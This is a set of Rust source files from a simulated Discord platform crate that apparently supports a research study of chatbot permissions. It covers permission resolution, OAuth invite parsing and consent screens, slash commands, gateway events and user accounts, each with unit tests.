            kind: ChannelKind::Text,
            overwrites: Vec::new(),
        }
    }

    /// A voice channel with no overwrites.
    pub fn voice(id: ChannelId, name: &str) -> Channel {
        Channel {
            id,
            name: name.to_string(),
            kind: ChannelKind::Voice,
            overwrites: Vec::new(),
        }
    }

    /// Overwrites that target the given role.
    pub fn role_overwrites(&self, role: RoleId) -> impl Iterator<Item = &Overwrite> {
        self.overwrites
            .iter()
            .filter(move |o| o.target == OverwriteTarget::Role(role))
    }

    /// The overwrite (if any) that targets the given member directly.
    pub fn member_overwrite(&self, user: UserId) -> Option<&Overwrite> {
        self.overwrites
            .iter()
            .find(|o| o.target == OverwriteTarget::Member(user))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cid(n: u64) -> ChannelId {
        ChannelId(Snowflake(n))
    }

    #[test]
    fn constructors() {
        let t = Channel::text(cid(1), "general");
        assert_eq!(t.kind, ChannelKind::Text);
        let v = Channel::voice(cid(2), "lounge");
        assert_eq!(v.kind, ChannelKind::Voice);
        assert!(t.overwrites.is_empty());
    }

    #[test]
    fn overwrite_lookup() {
        let role = RoleId(Snowflake(10));
        let user = UserId(Snowflake(20));
        let mut ch = Channel::text(cid(1), "secret");
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Role(role),
            allow: Permissions::NONE,
            deny: Permissions::VIEW_CHANNEL,
        });
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Member(user),
            allow: Permissions::VIEW_CHANNEL,
            deny: Permissions::NONE,
        });
        assert_eq!(ch.role_overwrites(role).count(), 1);
        assert_eq!(ch.role_overwrites(RoleId(Snowflake(99))).count(), 0);
        assert!(ch.member_overwrite(user).is_some());
        assert!(ch.member_overwrite(UserId(Snowflake(99))).is_none());
    }
}
