//! The platform's public web endpoint.
//!
//! Serves `https://discord.sim/oauth2/authorize` — the page an invite link
//! lands on. The paper's crawler classifies invite links by what this
//! endpoint does: a consent page (valid), HTTP 410 (bot removed), or the
//! link never resolving at all (handled by the network, not this service).

use crate::oauth::{InviteUrl, OAUTH_PATH};
use crate::platform::Platform;
use netsim::http::{Request, Response, Status};
use netsim::{Network, Service, ServiceCtx};

/// Host the endpoint is mounted at.
pub const PLATFORM_HOST: &str = "discord.sim";

/// The authorize endpoint, wrapping a [`Platform`].
#[derive(Clone)]
pub struct OAuthWebGate {
    platform: Platform,
}

impl OAuthWebGate {
    /// Wrap a platform.
    pub fn new(platform: Platform) -> OAuthWebGate {
        OAuthWebGate { platform }
    }

    /// Mount at [`PLATFORM_HOST`].
    pub fn mount(self, net: &Network) {
        net.mount(PLATFORM_HOST, self);
    }
}

impl Service for OAuthWebGate {
    fn handle(&mut self, req: &Request, _ctx: &mut ServiceCtx<'_>) -> Response {
        if req.url.path != OAUTH_PATH {
            return Response::status(Status::NotFound);
        }
        let invite = match InviteUrl::parse(&req.url) {
            Ok(invite) => invite,
            Err(e) => {
                return Response {
                    status: Status::BadRequest,
                    ..Response::ok(e.to_string())
                };
            }
        };
        match self.platform.application(invite.client_id) {
            Ok(app) => Response::ok(invite.consent_screen(&app.name))
                .with_header("x-bot-name", &app.name)
                // Echo the canonical OAuth URL so clients that arrived via a
                // redirector can still decode the requested parameters.
                .with_header("x-oauth-echo", &req.url.to_string()),
            // Unknown client → the bot was removed from the platform.
            Err(_) => Response::status(Status::Gone),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::guild::GuildVisibility;
    use crate::permissions::Permissions;
    use netsim::client::{ClientConfig, HttpClient};
    use netsim::clock::VirtualClock;
    use netsim::http::Url;

    fn setup() -> (Network, Platform, u64) {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        let platform = Platform::new(clock);
        let owner = platform.register_user("dev", "d@x.y");
        let _guild = platform
            .create_guild(owner, "g", GuildVisibility::Public)
            .unwrap();
        let app = platform.register_bot_application(owner, "RealBot").unwrap();
        OAuthWebGate::new(platform.clone()).mount(&net);
        (net, platform, app.client_id)
    }

    #[test]
    fn valid_invite_serves_consent_screen() {
        let (net, _platform, client_id) = setup();
        let mut client = HttpClient::new(net, ClientConfig::impolite("t"));
        let url = InviteUrl::bot(client_id, Permissions::ADMINISTRATOR).to_url();
        let resp = client.get(url).unwrap();
        assert!(resp.status.is_success());
        assert!(resp.text().contains("RealBot"));
        assert!(resp.text().contains("administrator"));
        assert_eq!(resp.header("x-bot-name"), Some("RealBot"));
    }

    #[test]
    fn unknown_client_is_gone() {
        let (net, _platform, _cid) = setup();
        let mut client = HttpClient::new(net, ClientConfig::impolite("t"));
        let url = InviteUrl::bot(999_999, Permissions::NONE).to_url();
        let resp = client.get(url).unwrap();
        assert_eq!(resp.status, Status::Gone);
    }

    #[test]
    fn malformed_invite_is_bad_request() {
        let (net, _platform, _cid) = setup();
        let mut client = HttpClient::new(net, ClientConfig::impolite("t"));
        let url = Url::https(PLATFORM_HOST, OAUTH_PATH).with_query("scope", "bot");
        let resp = client.get(url).unwrap();
        assert_eq!(resp.status, Status::BadRequest);
    }

    #[test]
    fn other_paths_are_404() {
        let (net, _platform, _cid) = setup();
        let mut client = HttpClient::new(net, ClientConfig::impolite("t"));
        let resp = client.get(Url::https(PLATFORM_HOST, "/api/users")).unwrap();
        assert_eq!(resp.status, Status::NotFound);
    }
}
