//! OAuth2 installation: scopes, invite URLs, and the consent screen.
//!
//! Chatbots are installed through an OAuth link (§4.1). The link encodes the
//! application ID, the requested scopes, and the permission bitfield; the
//! platform then shows the user a consent screen (Figure 2) and requires the
//! installer to hold `MANAGE_GUILD` in the target guild.

use crate::error::PlatformError;
use crate::permissions::Permissions;
use netsim::http::Url;
use serde::{Deserialize, Serialize};
use std::fmt;

/// OAuth scopes a chatbot may request.
///
/// §4.1: extra scopes "can give them extra user data as well as other
/// privileges"; some are whitelist-gated, some testing-only, and `bot` is
/// required for all chatbots.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum OAuthScope {
    /// The chatbot scope itself — required for installation.
    Bot,
    /// Read the user's account identity.
    Identify,
    /// Read the user's email address.
    Email,
    /// List the user's guilds.
    Guilds,
    /// Join guilds on the user's behalf.
    GuildsJoin,
    /// Register slash commands.
    ApplicationsCommands,
    /// Read messages across channels — whitelist-gated.
    MessagesRead,
    /// Low-level RPC — testing only.
    Rpc,
    /// RPC notification feed — testing only.
    RpcNotificationsRead,
    /// Create an incoming webhook on install.
    WebhookIncoming,
}

impl OAuthScope {
    /// Wire name used in invite URLs.
    pub fn wire_name(self) -> &'static str {
        match self {
            OAuthScope::Bot => "bot",
            OAuthScope::Identify => "identify",
            OAuthScope::Email => "email",
            OAuthScope::Guilds => "guilds",
            OAuthScope::GuildsJoin => "guilds.join",
            OAuthScope::ApplicationsCommands => "applications.commands",
            OAuthScope::MessagesRead => "messages.read",
            OAuthScope::Rpc => "rpc",
            OAuthScope::RpcNotificationsRead => "rpc.notifications.read",
            OAuthScope::WebhookIncoming => "webhook.incoming",
        }
    }

    /// Parse a wire name.
    pub fn from_wire(s: &str) -> Option<OAuthScope> {
        Some(match s {
            "bot" => OAuthScope::Bot,
            "identify" => OAuthScope::Identify,
            "email" => OAuthScope::Email,
            "guilds" => OAuthScope::Guilds,
            "guilds.join" => OAuthScope::GuildsJoin,
            "applications.commands" => OAuthScope::ApplicationsCommands,
            "messages.read" => OAuthScope::MessagesRead,
            "rpc" => OAuthScope::Rpc,
            "rpc.notifications.read" => OAuthScope::RpcNotificationsRead,
            "webhook.incoming" => OAuthScope::WebhookIncoming,
            _ => return None,
        })
    }

    /// Scopes only granted to applications whitelisted by platform staff.
    pub fn requires_whitelist(self) -> bool {
        matches!(self, OAuthScope::MessagesRead)
    }

    /// Scopes only usable by the developer's own test accounts.
    pub fn testing_only(self) -> bool {
        matches!(self, OAuthScope::Rpc | OAuthScope::RpcNotificationsRead)
    }

    /// What the consent screen tells the user this scope exposes.
    pub fn consent_line(self) -> &'static str {
        match self {
            OAuthScope::Bot => "Add a bot to a server you manage",
            OAuthScope::Identify => "Access your username, avatar, and banner",
            OAuthScope::Email => "Access your email address",
            OAuthScope::Guilds => "Know what servers you're in",
            OAuthScope::GuildsJoin => "Join servers for you",
            OAuthScope::ApplicationsCommands => "Create commands in a server you manage",
            OAuthScope::MessagesRead => "Read all messages you can see",
            OAuthScope::Rpc => "Control your local Discord client (testing)",
            OAuthScope::RpcNotificationsRead => "Read your notifications (testing)",
            OAuthScope::WebhookIncoming => "Create a webhook to post in a channel",
        }
    }
}

impl fmt::Display for OAuthScope {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.wire_name())
    }
}

/// A parsed chatbot invite link.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InviteUrl {
    /// Application (bot) client ID — raw snowflake value.
    pub client_id: u64,
    /// Requested scopes.
    pub scopes: Vec<OAuthScope>,
    /// Requested permission bitfield.
    pub permissions: Permissions,
}

/// Host on which the platform's OAuth endpoint lives in the simulation.
pub const OAUTH_HOST: &str = "discord.sim";
/// Path of the OAuth authorize endpoint.
pub const OAUTH_PATH: &str = "/oauth2/authorize";

impl InviteUrl {
    /// Standard invite for a bot with permissions.
    pub fn bot(client_id: u64, permissions: Permissions) -> InviteUrl {
        InviteUrl {
            client_id,
            scopes: vec![OAuthScope::Bot],
            permissions,
        }
    }

    /// Add an extra scope.
    pub fn with_scope(mut self, scope: OAuthScope) -> InviteUrl {
        if !self.scopes.contains(&scope) {
            self.scopes.push(scope);
        }
        self
    }

    /// Render the OAuth URL.
    pub fn to_url(&self) -> Url {
        let scope_str = self
            .scopes
            .iter()
            .map(|s| s.wire_name())
            .collect::<Vec<_>>()
            .join(" ");
        Url::https(OAUTH_HOST, OAUTH_PATH)
            .with_query("client_id", &self.client_id.to_string())
            .with_query("scope", &scope_str)
            .with_query("permissions", &self.permissions.to_invite_field())
    }

    /// Parse an invite URL, validating shape. This mirrors what the paper's
    /// crawler does with the install links it scrapes; malformed links are
    /// the "invalid permissions" bucket of §4.2.
    pub fn parse(url: &Url) -> Result<InviteUrl, PlatformError> {
        if url.host != OAUTH_HOST || url.path != OAUTH_PATH {
            return Err(PlatformError::OAuth {
                reason: format!("not an oauth authorize url: {url}"),
            });
        }
        let client_id = url
            .query_param("client_id")
            .and_then(|v| v.parse::<u64>().ok())
            .ok_or_else(|| PlatformError::OAuth {
                reason: "missing/invalid client_id".into(),
            })?;
        let scopes_raw = url.query_param("scope").unwrap_or("");
        let mut scopes = Vec::new();
        for part in scopes_raw.split([' ', '+']).filter(|p| !p.is_empty()) {
            let scope = OAuthScope::from_wire(part).ok_or_else(|| PlatformError::OAuth {
                reason: format!("unknown scope {part:?}"),
            })?;
            if !scopes.contains(&scope) {
                scopes.push(scope);
            }
        }
        if !scopes.contains(&OAuthScope::Bot) {
            return Err(PlatformError::OAuth {
                reason: "bot scope is required for all chatbots".into(),
            });
        }
        let permissions = match url.query_param("permissions") {
            Some(raw) => {
                Permissions::from_invite_field(raw).ok_or_else(|| PlatformError::OAuth {
                    reason: format!("invalid permissions field {raw:?}"),
                })?
            }
            None => Permissions::NONE,
        };
        Ok(InviteUrl {
            client_id,
            scopes,
            permissions,
        })
    }

    /// Render the consent screen text a user sees before authorizing —
    /// the simulation's Figure 2.
    pub fn consent_screen(&self, bot_name: &str) -> String {
        let mut out = String::new();
        out.push_str("┌─ An external application ─────────────\n");
        out.push_str(&format!("│  {bot_name}\n"));
        out.push_str("│  wants to access your Discord account\n");
        out.push_str("│\n│  THIS WILL ALLOW THE DEVELOPER TO:\n");
        for scope in &self.scopes {
            out.push_str(&format!("│   • {}\n", scope.consent_line()));
        }
        if !self.permissions.is_empty() {
            out.push_str("│\n│  GRANT THE FOLLOWING PERMISSIONS:\n");
            for name in self.permissions.names() {
                out.push_str(&format!("│   ✔ {name}\n"));
            }
            if self.permissions.has_unknown_bits() {
                out.push_str("│   ⚠ (unrecognized permission bits)\n");
            }
        }
        out.push_str("└────────────────────────────────────────\n");
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn url_roundtrip() {
        let invite = InviteUrl::bot(123456, Permissions::ADMINISTRATOR | Permissions::SPEAK)
            .with_scope(OAuthScope::Email)
            .with_scope(OAuthScope::ApplicationsCommands);
        let url = invite.to_url();
        let parsed = InviteUrl::parse(&url).unwrap();
        assert_eq!(parsed, invite);
    }

    #[test]
    fn parse_rejects_missing_bot_scope() {
        let url = Url::https(OAUTH_HOST, OAUTH_PATH)
            .with_query("client_id", "1")
            .with_query("scope", "identify email");
        let err = InviteUrl::parse(&url).unwrap_err();
        assert!(matches!(err, PlatformError::OAuth { .. }));
    }

    #[test]
    fn parse_rejects_bad_client_and_permissions() {
        let base = Url::https(OAUTH_HOST, OAUTH_PATH).with_query("scope", "bot");
        assert!(InviteUrl::parse(&base).is_err(), "no client_id");
        let bad_perms = base
            .clone()
            .with_query("client_id", "1")
            .with_query("permissions", "idk");
        assert!(InviteUrl::parse(&bad_perms).is_err());
        let wrong_host = Url::https("evil.example", OAUTH_PATH).with_query("client_id", "1");
        assert!(InviteUrl::parse(&wrong_host).is_err());
    }

    #[test]
    fn parse_accepts_plus_separated_scopes() {
        let url = Url::https(OAUTH_HOST, OAUTH_PATH)
            .with_query("client_id", "7")
            .with_query("scope", "bot+identify")
            .with_query("permissions", "8");
        let invite = InviteUrl::parse(&url).unwrap();
        assert_eq!(invite.scopes, vec![OAuthScope::Bot, OAuthScope::Identify]);
        assert_eq!(invite.permissions, Permissions::ADMINISTRATOR);
    }

    #[test]
    fn missing_permissions_field_means_none() {
        let url = Url::https(OAUTH_HOST, OAUTH_PATH)
            .with_query("client_id", "7")
            .with_query("scope", "bot");
        let invite = InviteUrl::parse(&url).unwrap();
        assert_eq!(invite.permissions, Permissions::NONE);
    }

    #[test]
    fn scope_gating_flags() {
        assert!(OAuthScope::MessagesRead.requires_whitelist());
        assert!(!OAuthScope::Bot.requires_whitelist());
        assert!(OAuthScope::Rpc.testing_only());
        assert!(OAuthScope::RpcNotificationsRead.testing_only());
        assert!(!OAuthScope::Email.testing_only());
    }

    #[test]
    fn wire_names_roundtrip() {
        for scope in [
            OAuthScope::Bot,
            OAuthScope::Identify,
            OAuthScope::Email,
            OAuthScope::Guilds,
            OAuthScope::GuildsJoin,
            OAuthScope::ApplicationsCommands,
            OAuthScope::MessagesRead,
            OAuthScope::Rpc,
            OAuthScope::RpcNotificationsRead,
            OAuthScope::WebhookIncoming,
        ] {
            assert_eq!(OAuthScope::from_wire(scope.wire_name()), Some(scope));
        }
        assert_eq!(OAuthScope::from_wire("nonsense"), None);
    }

    #[test]
    fn consent_screen_lists_scopes_and_permissions() {
        let invite = InviteUrl::bot(1, Permissions::ADMINISTRATOR).with_scope(OAuthScope::Email);
        let screen = invite.consent_screen("Melonian");
        assert!(screen.contains("Melonian"));
        assert!(screen.contains("Add a bot to a server you manage"));
        assert!(screen.contains("Access your email address"));
        assert!(screen.contains("administrator"));
    }
}
