//! Application ("slash") commands with platform-enforced invoker checks.
//!
//! §5 diagnoses Discord's prefix-command model: "the current permission
//! framework allows the developer to implement and perform the necessary
//! permission check", and most developers don't. The platform's eventual
//! answer — modeled here — is application commands carrying
//! `default_member_permissions`: the *platform* verifies the invoking user
//! before the bot ever sees the interaction, closing the re-delegation
//! hole structurally instead of by developer diligence.

use crate::permissions::Permissions;
use serde::{Deserialize, Serialize};

/// A registered application command (`/kick`, `/play`, …).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SlashCommand {
    /// Command name, without the slash.
    pub name: String,
    /// Listing description shown in the command picker.
    pub description: String,
    /// Permissions the *invoking user* must hold; enforced by the platform
    /// at invocation time. `NONE` makes the command available to everyone.
    pub default_member_permissions: Permissions,
}

impl SlashCommand {
    /// A command anyone may invoke.
    pub fn public(name: &str, description: &str) -> SlashCommand {
        SlashCommand {
            name: name.to_string(),
            description: description.to_string(),
            default_member_permissions: Permissions::NONE,
        }
    }

    /// A command gated on the invoker holding `required`.
    pub fn gated(name: &str, description: &str, required: Permissions) -> SlashCommand {
        SlashCommand {
            name: name.to_string(),
            description: description.to_string(),
            default_member_permissions: required,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constructors() {
        let ping = SlashCommand::public("ping", "pong");
        assert!(ping.default_member_permissions.is_empty());
        let kick = SlashCommand::gated("kick", "remove a member", Permissions::KICK_MEMBERS);
        assert!(kick
            .default_member_permissions
            .contains(Permissions::KICK_MEMBERS));
    }
}
