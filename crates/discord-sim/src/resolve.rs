//! Effective permission resolution.
//!
//! Order of operations (matching Discord's documented algorithm):
//!
//! 1. guild owner → all permissions, unconditionally;
//! 2. union of guild-level role permissions (`@everyone` + member roles);
//! 3. if that union contains `ADMINISTRATOR` → all permissions, **bypassing
//!    channel overwrites** (§4.2: the admin permission "allows all
//!    permissions, bypasses channel permission overwrites");
//! 4. otherwise apply channel overwrites: `@everyone` overwrite, then the
//!    member's role overwrites (deny before allow, aggregated), then the
//!    member-specific overwrite.

use crate::channel::ChannelId;
use crate::error::PlatformError;
use crate::guild::Guild;
use crate::permissions::Permissions;
use crate::user::UserId;

/// Effective guild-level permissions for a member (no channel context).
pub fn guild_permissions(guild: &Guild, user: UserId) -> Result<Permissions, PlatformError> {
    if user == guild.owner {
        return Ok(Permissions::ALL_KNOWN);
    }
    let base = guild.base_permissions(user)?;
    if base.contains(Permissions::ADMINISTRATOR) {
        return Ok(Permissions::ALL_KNOWN);
    }
    Ok(base)
}

/// Effective permissions for a member within one channel.
pub fn channel_permissions(
    guild: &Guild,
    channel: ChannelId,
    user: UserId,
) -> Result<Permissions, PlatformError> {
    if user == guild.owner {
        return Ok(Permissions::ALL_KNOWN);
    }
    let base = guild.base_permissions(user)?;
    if base.contains(Permissions::ADMINISTRATOR) {
        // Administrator bypasses overwrites entirely.
        return Ok(Permissions::ALL_KNOWN);
    }
    let ch = guild.channel(channel)?;
    let member = guild.member(user)?;

    let mut perms = base;

    // 1. @everyone overwrite.
    for ow in ch.role_overwrites(guild.everyone_role) {
        perms = perms.difference(ow.deny).union(ow.allow);
    }

    // 2. Aggregate role overwrites across the member's roles: all denies
    //    apply, then all allows.
    let mut role_deny = Permissions::NONE;
    let mut role_allow = Permissions::NONE;
    for rid in &member.roles {
        for ow in ch.role_overwrites(*rid) {
            role_deny |= ow.deny;
            role_allow |= ow.allow;
        }
    }
    perms = perms.difference(role_deny).union(role_allow);

    // 3. Member-specific overwrite.
    if let Some(ow) = ch.member_overwrite(user) {
        perms = perms.difference(ow.deny).union(ow.allow);
    }

    // Role overwrites can only touch known bits; anything else would be a
    // platform bug, not user data.
    debug_assert!(!perms.has_unknown_bits() || base.has_unknown_bits());

    Ok(perms)
}

/// Convenience: does `user` hold `required` in `channel`?
pub fn has_channel_permission(
    guild: &Guild,
    channel: ChannelId,
    user: UserId,
    required: Permissions,
) -> Result<bool, PlatformError> {
    Ok(channel_permissions(guild, channel, user)?.contains(required))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::channel::{Channel, Overwrite, OverwriteTarget};
    use crate::guild::{GuildId, GuildVisibility, Member};
    use crate::role::{Role, RoleId};
    use crate::snowflake::Snowflake;

    struct Fixture {
        guild: Guild,
        channel: ChannelId,
        alice: UserId,
        bot: UserId,
        mod_role: RoleId,
    }

    fn fixture() -> Fixture {
        let owner = UserId(Snowflake(1));
        let alice = UserId(Snowflake(2));
        let bot = UserId(Snowflake(3));
        let everyone = RoleId(Snowflake(10));
        let mod_role = RoleId(Snowflake(11));
        let channel = ChannelId(Snowflake(20));

        let mut guild = Guild::new(
            GuildId(Snowflake(100)),
            "fixture",
            owner,
            everyone,
            GuildVisibility::Private,
        );
        guild.roles.insert(
            mod_role,
            Role {
                id: mod_role,
                name: "Mod".into(),
                position: 5,
                permissions: Permissions::KICK_MEMBERS | Permissions::MANAGE_MESSAGES,
            },
        );
        guild.members.insert(
            alice,
            Member {
                user: alice,
                roles: Vec::new(),
                nickname: None,
            },
        );
        guild.members.insert(
            bot,
            Member {
                user: bot,
                roles: Vec::new(),
                nickname: None,
            },
        );
        guild
            .channels
            .insert(channel, Channel::text(channel, "general"));
        Fixture {
            guild,
            channel,
            alice,
            bot,
            mod_role,
        }
    }

    #[test]
    fn owner_has_everything() {
        let f = fixture();
        let owner = f.guild.owner;
        assert_eq!(
            guild_permissions(&f.guild, owner).unwrap(),
            Permissions::ALL_KNOWN
        );
        assert_eq!(
            channel_permissions(&f.guild, f.channel, owner).unwrap(),
            Permissions::ALL_KNOWN
        );
    }

    #[test]
    fn plain_member_gets_everyone_defaults() {
        let f = fixture();
        let p = channel_permissions(&f.guild, f.channel, f.alice).unwrap();
        assert!(p.contains(Permissions::SEND_MESSAGES));
        assert!(!p.contains(Permissions::KICK_MEMBERS));
    }

    #[test]
    fn role_grants_add_up() {
        let mut f = fixture();
        f.guild.member_mut(f.alice).unwrap().roles.push(f.mod_role);
        let p = guild_permissions(&f.guild, f.alice).unwrap();
        assert!(p.contains(Permissions::KICK_MEMBERS));
        assert!(p.contains(Permissions::SEND_MESSAGES));
    }

    #[test]
    fn administrator_bypasses_channel_deny() {
        let mut f = fixture();
        let admin_role = RoleId(Snowflake(12));
        f.guild.roles.insert(
            admin_role,
            Role {
                id: admin_role,
                name: "Admin".into(),
                position: 9,
                permissions: Permissions::ADMINISTRATOR,
            },
        );
        f.guild.member_mut(f.bot).unwrap().roles.push(admin_role);
        // Deny VIEW_CHANNEL to everyone in the channel.
        let everyone = f.guild.everyone_role;
        f.guild
            .channels
            .get_mut(&f.channel)
            .unwrap()
            .overwrites
            .push(Overwrite {
                target: OverwriteTarget::Role(everyone),
                allow: Permissions::NONE,
                deny: Permissions::VIEW_CHANNEL | Permissions::SEND_MESSAGES,
            });
        // Alice is locked out…
        let alice_perms = channel_permissions(&f.guild, f.channel, f.alice).unwrap();
        assert!(!alice_perms.contains(Permissions::VIEW_CHANNEL));
        // …but the admin bot sails through, exactly the §4.2 risk.
        let bot_perms = channel_permissions(&f.guild, f.channel, f.bot).unwrap();
        assert!(bot_perms.contains(Permissions::VIEW_CHANNEL));
        assert_eq!(bot_perms, Permissions::ALL_KNOWN);
    }

    #[test]
    fn overwrite_order_everyone_then_roles_then_member() {
        let mut f = fixture();
        f.guild.member_mut(f.alice).unwrap().roles.push(f.mod_role);
        let everyone = f.guild.everyone_role;
        let ch = f.guild.channels.get_mut(&f.channel).unwrap();
        // @everyone: deny send.
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Role(everyone),
            allow: Permissions::NONE,
            deny: Permissions::SEND_MESSAGES,
        });
        // Mod role: allow send back.
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Role(f.mod_role),
            allow: Permissions::SEND_MESSAGES,
            deny: Permissions::NONE,
        });
        // Member-specific: deny again — member overwrite wins.
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Member(f.alice),
            allow: Permissions::NONE,
            deny: Permissions::SEND_MESSAGES,
        });
        let p = channel_permissions(&f.guild, f.channel, f.alice).unwrap();
        assert!(!p.contains(Permissions::SEND_MESSAGES));
    }

    #[test]
    fn role_deny_applies_before_role_allow_across_roles() {
        let mut f = fixture();
        let muted = RoleId(Snowflake(13));
        f.guild.roles.insert(
            muted,
            Role {
                id: muted,
                name: "Muted".into(),
                position: 1,
                permissions: Permissions::NONE,
            },
        );
        let member = f.guild.member_mut(f.alice).unwrap();
        member.roles.push(f.mod_role);
        member.roles.push(muted);
        let ch = f.guild.channels.get_mut(&f.channel).unwrap();
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Role(muted),
            allow: Permissions::NONE,
            deny: Permissions::SEND_MESSAGES,
        });
        ch.overwrites.push(Overwrite {
            target: OverwriteTarget::Role(f.mod_role),
            allow: Permissions::SEND_MESSAGES,
            deny: Permissions::NONE,
        });
        // Aggregated role overwrites: deny ∪ then allow ∪ → allow wins.
        let p = channel_permissions(&f.guild, f.channel, f.alice).unwrap();
        assert!(p.contains(Permissions::SEND_MESSAGES));
    }

    #[test]
    fn has_channel_permission_helper() {
        let f = fixture();
        assert!(
            has_channel_permission(&f.guild, f.channel, f.alice, Permissions::SEND_MESSAGES)
                .unwrap()
        );
        assert!(
            !has_channel_permission(&f.guild, f.channel, f.alice, Permissions::BAN_MEMBERS)
                .unwrap()
        );
        assert!(channel_permissions(&f.guild, f.channel, UserId(Snowflake(99))).is_err());
    }
}
