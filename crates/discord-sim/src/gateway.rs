//! Gateway events.
//!
//! Installed chatbots receive a feed of guild events — the mechanism that
//! lets a bot backend observe every message in every channel it can see,
//! which is exactly the surface the honeypot experiment probes.

use crate::channel::ChannelId;
use crate::guild::GuildId;
use crate::message::Message;
use crate::user::UserId;

/// An event pushed to a bot's gateway connection.
#[derive(Debug, Clone, PartialEq)]
pub enum GatewayEvent {
    /// The bot was added to a guild.
    GuildCreate {
        /// The guild joined.
        guild: GuildId,
        /// The guild's display name (bots key honeypot attribution off this).
        guild_name: String,
    },
    /// A message was posted in a channel the bot can see.
    MessageCreate {
        /// Guild the channel belongs to.
        guild: GuildId,
        /// The message (content + attachments).
        message: Message,
    },
    /// A member joined the guild.
    GuildMemberAdd {
        /// The guild.
        guild: GuildId,
        /// Who joined.
        user: UserId,
    },
    /// A member left or was removed.
    GuildMemberRemove {
        /// The guild.
        guild: GuildId,
        /// Who left.
        user: UserId,
    },
    /// A channel was created.
    ChannelCreate {
        /// The guild.
        guild: GuildId,
        /// The new channel.
        channel: ChannelId,
    },
    /// A slash-command interaction, delivered only after the platform has
    /// verified the invoker's `default_member_permissions`.
    InteractionCreate {
        /// The guild.
        guild: GuildId,
        /// Channel the interaction was issued from.
        channel: ChannelId,
        /// The verified invoking user.
        invoker: UserId,
        /// Command name (no slash).
        command: String,
        /// Raw argument string.
        args: String,
    },
}

impl GatewayEvent {
    /// The guild this event concerns.
    pub fn guild(&self) -> GuildId {
        match self {
            GatewayEvent::GuildCreate { guild, .. }
            | GatewayEvent::MessageCreate { guild, .. }
            | GatewayEvent::GuildMemberAdd { guild, .. }
            | GatewayEvent::GuildMemberRemove { guild, .. }
            | GatewayEvent::ChannelCreate { guild, .. }
            | GatewayEvent::InteractionCreate { guild, .. } => *guild,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snowflake::Snowflake;

    #[test]
    fn guild_accessor_covers_all_variants() {
        let gid = GuildId(Snowflake(5));
        let events = [
            GatewayEvent::GuildCreate {
                guild: gid,
                guild_name: "g".into(),
            },
            GatewayEvent::GuildMemberAdd {
                guild: gid,
                user: UserId(Snowflake(1)),
            },
            GatewayEvent::GuildMemberRemove {
                guild: gid,
                user: UserId(Snowflake(1)),
            },
            GatewayEvent::ChannelCreate {
                guild: gid,
                channel: ChannelId(Snowflake(2)),
            },
        ];
        for e in events {
            assert_eq!(e.guild(), gid);
        }
    }
}
