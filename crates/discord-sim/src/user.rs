//! Users: normal accounts and bot accounts.

use crate::snowflake::Snowflake;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Identifier newtype for users.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct UserId(pub Snowflake);

impl fmt::Display for UserId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "user:{}", self.0)
    }
}

/// Whether an account is a human or an automated chatbot.
///
/// §4.1: "Users are classified as 'bot' (chatbot) or 'normal' users. …
/// chatbots are automated users that are 'owned' by another normal user."
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum UserKind {
    /// A human account. Subject to guild-count limits and join-rate
    /// anti-abuse flagging (the paper hit mobile verification for this).
    Normal,
    /// A chatbot, owned by a normal user. No guild-count limit.
    Bot {
        /// The owning (normal) user.
        owner: UserId,
    },
}

/// A platform account.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct User {
    /// Stable identifier.
    pub id: UserId,
    /// Display name with discriminator, e.g. `editid#6714`.
    pub name: String,
    /// Human or bot.
    pub kind: UserKind,
    /// Account email — part of the user data an extra OAuth `email` scope
    /// exposes to applications.
    pub email: String,
    /// Whether the account passed mobile verification. New accounts that
    /// join many guilds quickly get flagged and need this (§4.2).
    pub mobile_verified: bool,
    /// Number of guilds joined (for anti-abuse flagging of normal users).
    pub guilds_joined: u32,
}

impl User {
    /// True for chatbot accounts.
    pub fn is_bot(&self) -> bool {
        matches!(self.kind, UserKind::Bot { .. })
    }

    /// The bot's owner, if this is a bot.
    pub fn owner(&self) -> Option<UserId> {
        match self.kind {
            UserKind::Bot { owner } => Some(owner),
            UserKind::Normal => None,
        }
    }
}

/// How many guilds a normal user may join before the platform flags the
/// account for verification. Discord's real threshold is undocumented; the
/// paper reports being flagged "when a new account quickly joins many
/// guilds". The exact value only matters in that it is small enough to be
/// hit by a honeypot campaign.
pub const UNVERIFIED_GUILD_LIMIT: u32 = 10;

#[cfg(test)]
mod tests {
    use super::*;

    fn uid(n: u64) -> UserId {
        UserId(Snowflake(n))
    }

    #[test]
    fn bot_ownership() {
        let owner = uid(1);
        let bot = User {
            id: uid(2),
            name: "Melonian#0001".into(),
            kind: UserKind::Bot { owner },
            email: "bot@backend.example".into(),
            mobile_verified: true,
            guilds_joined: 0,
        };
        assert!(bot.is_bot());
        assert_eq!(bot.owner(), Some(owner));
    }

    #[test]
    fn normal_user_has_no_owner() {
        let u = User {
            id: uid(3),
            name: "alice#1234".into(),
            kind: UserKind::Normal,
            email: "alice@example.org".into(),
            mobile_verified: false,
            guilds_joined: 2,
        };
        assert!(!u.is_bot());
        assert_eq!(u.owner(), None);
